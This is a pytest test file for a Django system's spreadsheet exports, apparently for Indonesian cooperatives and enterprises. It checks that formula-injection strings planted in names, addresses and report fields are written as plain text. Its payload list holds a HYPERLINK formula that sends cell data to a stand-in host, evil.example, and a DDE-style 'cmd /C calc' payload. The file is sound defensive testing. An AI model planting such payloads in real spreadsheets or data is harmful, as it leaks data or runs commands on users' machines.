"""Hostile text in exports (issue 15, item 5): a name starting with = + - @ (or a tab or carriage
return) stays text in every XLSX the system writes; numbers stay numbers."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from sikumi.core.exports import NUMBER, RUPIAH, Column, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+62-811-0000",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/",
]


def _cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text(cells: list, text: str) -> None:
    # xlsxwriter stores a carriage return as "_x000D_", which openpyxl does not decode.
    found = [c for c in cells if str(c.value).replace("_x000D_", "\r") == text]
    assert found, f"{text!r} is not in the workbook as written"
    for cell in found:
        assert cell.data_type == "s"
        assert cell.hyperlink is None


def _no_formula(cells: list) -> None:
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


@pytest.mark.parametrize("text", HOSTILE)
def test_the_list_export_writes_hostile_text_as_text(text, tmp_path: Path):
    path = tmp_path / "daftar.xlsx"
    columns = [
        Column("Nama", lambda r: r["name"]),
        Column("Modal", lambda r: r["capital"], RUPIAH),
        Column("Karyawan", lambda r: r["employees"], NUMBER),
        Column("Mulai", lambda r: r["start"]),
    ]
    rows = [{"name": text, "capital": Decimal("1500000"), "employees": 3, "start": None}]
    rows.append({"name": "Biasa", "capital": None, "employees": 0, "start": dt.date(2024, 1, 2)})
    write_xlsx(str(path), columns, rows, title=text, note=text)
    cells = _cells(path.read_bytes())
    _no_formula(cells)
    _assert_text(cells, text)
    # Title, note, a blank row, the header: the data start on row 5.
    numbers = {
        c.value: c.data_type
        for c in cells
        if c.column_letter in "BC" and c.row >= 5 and c.value is not None
    }
    assert numbers == {1500000: "n", 3: "n", 0: "n"}


@pytest.mark.django_db
def test_a_cooperative_named_as_a_formula_exports_as_its_name(personas, depok, client_for):
    from sikumi.cooperatives import services
    from sikumi.cooperatives.models import Cooperative

    name = HOSTILE[0]
    services.cooperative_create(
        actor=personas.kiki,
        cooperative=Cooperative(
            name=name,
            jenis="simpan_pinjam",
            kelurahan_id="32.76.02.1008",
            owner_unit=personas.unit("bidang-kelembagaan"),
            address="=1+1 Jalan Raya",
        ),
    )
    response = client_for(personas.kiki).get(reverse("cooperatives:list"), {"format": "xlsx"})
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content))
    _no_formula(cells)
    _assert_text(cells, name)


@pytest.mark.django_db
def test_an_enterprise_named_as_a_formula_exports_as_its_name(personas, depok, client_for):
    from sikumi.enterprises import services
    from sikumi.enterprises.models import Enterprise

    services.enterprise_create(
        actor=personas.sari,
        enterprise=Enterprise(
            name='=HYPERLINK("http://x.example","Warung")',
            kelurahan_id="32.76.03.1012",
            address="@SUM(A1)",
            capital=Decimal("20000000"),
        ),
        owner={"nik": "3276011203850001", "name": "-Budi+", "sex": "L"},
    )
    response = client_for(personas.sari).get(reverse("enterprises:list"), {"format": "xlsx"})
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content))
    _no_formula(cells)
    for text in ('=HYPERLINK("http://x.example","Warung")', "@SUM(A1)", "-Budi+"):
        _assert_text(cells, text)
    assert any(c.value == 20000000 and c.data_type == "n" for c in cells)


def test_a_monev_report_writes_hostile_text_as_text(tmp_path: Path):
    from sikumi.monev.reports.render import write_xlsx as write_report
    from sikumi.monev.reports.table import NUMBER as REPORT_NUMBER
    from sikumi.monev.reports.table import Cell, Head, Report, Row, Table

    table = Table(
        title=HOSTILE[3],
        header=[[Head(HOSTILE[1]), Head("Nilai")]],
        rows=[Row([Cell(HOSTILE[0]), Cell(Decimal("12.5"), REPORT_NUMBER)])],
        widths=[20, 10],
        note=HOSTILE[2],
    )
    report = Report(name="uji", title=HOSTILE[0], tables=[table], notes=[HOSTILE[4]])
    path = tmp_path / "laporan.xlsx"
    write_report(report, str(path))
    cells = _cells(path.read_bytes())
    _no_formula(cells)
    for text in (HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[4]):
        _assert_text(cells, text)
    assert any(c.value == 12.5 and c.data_type == "n" for c in cells)


def test_a_renstra_table_writes_hostile_text_as_text(tmp_path: Path):
    from sikumi.plans.reports import Cell as PlanCell
    from sikumi.plans.reports import Head as PlanHead
    from sikumi.plans.reports import Row as PlanRow
    from sikumi.plans.reports import Sheet, write_sheet_xlsx

    sheet = Sheet(
        key="uji",
        title=HOSTILE[0],
        subtitle=HOSTILE[1],
        heads=[PlanHead(HOSTILE[3], 0, 0), PlanHead("Nilai", 0, 1)],
        widths=[20, 10],
        rows=[PlanRow([PlanCell(HOSTILE[4]), PlanCell(Decimal("7"))])],
        notes=[HOSTILE[2]],
    )
    path = tmp_path / "tabel.xlsx"
    write_sheet_xlsx(sheet, str(path))
    cells = _cells(path.read_bytes())
    _no_formula(cells)
    for text in HOSTILE[:5]:
        _assert_text(cells, text)
    assert any(c.value == 7 and c.data_type == "n" for c in cells)
